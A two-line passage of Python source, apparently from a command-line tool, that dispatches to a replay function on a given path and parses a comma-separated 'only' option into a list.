         return replay(Path(args.replay))
     only = args.only.split(",") if args.only else None
